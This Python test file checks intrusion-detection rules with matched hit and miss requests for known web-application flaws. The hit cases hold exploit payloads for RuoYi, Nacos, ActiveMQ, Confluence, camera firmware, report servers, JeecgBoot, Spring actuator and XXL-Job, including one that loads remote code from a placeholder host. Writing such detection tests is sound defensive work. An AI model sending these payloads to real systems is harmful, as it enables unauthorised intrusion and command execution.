"""Cases of extranet.rules."""

import struct
from urllib.parse import quote

from cases import OK, get, post, speech, web
from cases.offices import ERROR, asked, office, sent, uploaded
from packets import Dice
from protocols import base64, response


def platforms(theme):
    """RuoYi, Nacos, ActiveMQ, Confluence."""
    hit, miss = theme.hit, theme.miss
    hit(
        9000816,
        "file of the system",
        asked("/common/download/resource?resource=/profile/../../../../etc/hostname"),
    )
    miss(9000816, "file of a profile", asked("/common/download/resource?resource=/profile/upload/2026/a.png"))
    hit(
        9000817,
        "class loaded from afar",
        sent(
            "/monitor/job/add",
            "jobName=a&invokeTarget=org.yaml.snakeyaml.Yaml.load('x')&cronExpression=0/10+*+*+*+*+?",
        ),
    )
    miss(
        9000817,
        "task of the application",
        sent(
            "/monitor/job/add", "jobName=a&invokeTarget=ryTask.ryParams('ry')&cronExpression=0/10+*+*+*+*+?"
        ),
    )
    users = response(
        body='{"totalCount":1,"pageItems":[{"username":"nacos","password":"$2a$10$Eu"}]}',
        kind="application/json",
    )
    path = "/nacos/v1/auth/users?pageNo=1&pageSize=9"
    hit(
        9000818,
        "servers' user agent, refused",
        asked(path, response("403 Forbidden", "no"), agent="Nacos-Server"),
    )
    miss(9000818, "a browser, refused", asked(path, response("403 Forbidden", "no")))
    hit(9000819, "servers' user agent, answered", asked(path, users, agent="Nacos-Server"), also=[9000818])
    miss(9000819, "a browser that is logged in", asked(path, users))
    forged = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJuYWNvcyIsImV4cCI6MTYxODEyMzY5N30.nyooAL4OMdiByXocu8kL1ooXd1IeKj6wQZwIH8nmcNA"
    hit(9000820, "known token", asked(f"/nacos/v1/console/namespaces?accessToken={forged}"))
    miss(
        9000820,
        "another token",
        asked(
            "/nacos/v1/console/namespaces?accessToken=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ6aGFuZyIsImV4cCI6MX0.x"
        ),
    )
    hit(
        9000822,
        "password in a configuration",
        asked(
            "/nacos/v1/cs/configs?dataId=office.yml&group=G",
            response(body="spring:\n  datasource:\n    password: Of#1\n", kind="text/plain"),
        ),
    )
    miss(
        9000822,
        "configuration without a password",
        asked(
            "/nacos/v1/cs/configs?dataId=gate.yml&group=G", response(body="routes: []\n", kind="text/plain")
        ),
    )
    miss(
        9000822,
        "the same configuration to an inside client",
        web(
            (
                get("/nacos/v1/cs/configs?dataId=office.yml&group=G"),
                response(body="password: Of#1\n", kind="text/plain"),
            ),
            outside=False,
        ),
    )
    hit(
        9000823,
        "file put",
        web((post("/fileserver/x.txt", "x", "text/plain", method="PUT"), response("204 No Content"))),
    )
    miss(9000823, "file read", asked("/fileserver/x.txt"))

    def frame(kind, name):
        body = (
            bytes([kind])
            + bytes(9)
            + b"\1"
            + b"\1"
            + struct.pack(">H", len(name))
            + name
            + b"\1"
            + struct.pack(">H", 28)
            + b"http://203.0.113.9/poc.xml  "
        )
        return struct.pack(">I", len(body)) + body

    hit(
        9000824,
        "class of Spring",
        speech(61616, frame(0x1F, b"org.springframework.context.support.ClassPathXmlApplicationContext")),
    )
    miss(9000824, "an honest exception", speech(61616, frame(0x1F, b"java.lang.IllegalStateException")))
    hit(9000825, "expression", asked("/%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/"))
    miss(9000825, "placeholder", asked("/%24%7Btitle%7D/"))
    hit(
        9000826,
        "set-up",
        asked("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
    )
    miss(9000826, "server's facts", asked("/server-info.action?setupComplete=false"))
    hit(
        9000827,
        "template",
        sent(
            "/template/aui/text-inline.vm",
            "label="
            + quote("\\u0027+{#request['.KEY_velocity.struts2.context'].get('ognl')}+{freemarker.template}"),
        ),
    )
    miss(9000827, "label", sent("/template/aui/text-inline.vm", "label=news"))


def devices(theme):
    """Cameras, gateways, reports, Spring Boot, schedulers."""
    hit, miss = theme.hit, theme.miss
    hit(
        9000828,
        "command",
        web(
            (
                post(
                    "/SDK/webLanguage",
                    '<?xml version="1.0"?><language>$(id>webLib/x)</language>',
                    "text/xml",
                    method="PUT",
                ),
                ERROR,
            )
        ),
    )
    miss(
        9000828,
        "language",
        web(
            (
                post(
                    "/SDK/webLanguage",
                    '<?xml version="1.0"?><language>zh</language>',
                    "text/xml",
                    method="PUT",
                ),
                ERROR,
            )
        ),
    )
    hit(
        9000829,
        "JSP out of its folder",
        uploaded("/center/api/files;.html", "../../../bin/tomcat/apache-tomcat/webapps/clusterMgr/a.txt"),
    )
    miss(9000829, "file", uploaded("/center/api/files", "photo.png"))
    hit(
        9000830,
        "JSP as a picture",
        uploaded("/emap/devicePoint_addImgIco?hasSubsystem=true", "a.jsp", "upload"),
    )
    miss(9000830, "picture", uploaded("/emap/devicePoint_addImgIco?hasSubsystem=true", "a.png", "upload"))
    hit(9000831, "function", asked("/tool/log/c.php?strip_slashes=system&host=id"))
    miss(9000831, "log", asked("/tool/log/c.php?host=10.31.4.20&row=20"))
    hit(
        9000832,
        "JSP out of its folder",
        sent(
            "/cas/fileUpload/upload?token=/../../../../../var/lib/tomcat8/webapps/cas/js/lib/buttons/a.jsp&name=222",
            "x",
            "text/plain",
        ),
    )
    miss(9000832, "file", sent("/cas/fileUpload/upload?token=6f2a&name=a.iso", "x", "text/plain"))
    hit(
        9000833,
        "object",
        sent(
            "/K3Cloud/Kingdee.BOS.ServiceFacade.ServicesStub.DevReportService.GetBusinessObjectData.common.kdsvc",
            '{"ap0":"'
            + base64(bytes.fromhex("0001000000ffffffff01000000000000000c02") + bytes(60))
            + '","format":"3"}',
            "application/json",
        ),
    )
    miss(
        9000833,
        "identifier",
        sent(
            "/K3Cloud/Kingdee.BOS.ServiceFacade.ServicesStub.User.UserService.ValidateUser.common.kdsvc",
            '{"ap0":"5f3c","format":"1"}',
            "application/json",
        ),
    )
    hit(
        9000834,
        "expression",
        asked("/webroot/decision/view/ReportServer?test=ssssss&n=%24%7Bsum(1024,123)%7D"),
    )
    miss(9000834, "report", asked("/webroot/decision/view/ReportServer?reportlet=month.cpt&n=3"))
    hit(
        9000835,
        "template",
        sent(
            "/jeecg-boot/jmreport/queryFieldBySql",
            '{"sql":"select \'<#assign x=\\"freemarker.template.utility.Execute\\"?new()>${x(\\"id\\")}\'"}',
            "application/json",
        ),
    )
    miss(
        9000835,
        "query",
        sent("/jeecg-boot/jmreport/queryFieldBySql", '{"sql":"select name from office"}', "application/json"),
    )
    hit(9000836, "dump asked for", asked("/actuator/heapdump", response("404 Not Found", "no")))
    miss(9000836, "health asked for", asked("/actuator/health"))
    dump = response(
        body=b"JAVA PROFILE 1.0.2\0\0\0\0\x08" + Dice("heap").bytes(2000), kind="application/octet-stream"
    )
    hit(9000837, "dump handed out", asked("/actuator/heapdump", dump), also=[9000836])
    miss(
        9000837,
        "an article on profiles",
        asked("/help.html", response(body="A heap file begins with JAVA PROFILE 1.0.2")),
    )
    job = '{"jobId":1,"executorHandler":"demo","glueType":"GLUE_SHELL","glueSource":"id","glueUpdatetime":1}'
    hit(9000838, "script of the shell", web((post("/run", job, "application/json"), OK), port=9999))
    miss(
        9000838,
        "bean of the application",
        web((post("/run", job.replace("GLUE_SHELL", "BEAN"), "application/json"), OK), port=9999),
    )


def cases(theme):
    """All cases."""
    office(theme)
    platforms(theme)
    devices(theme)
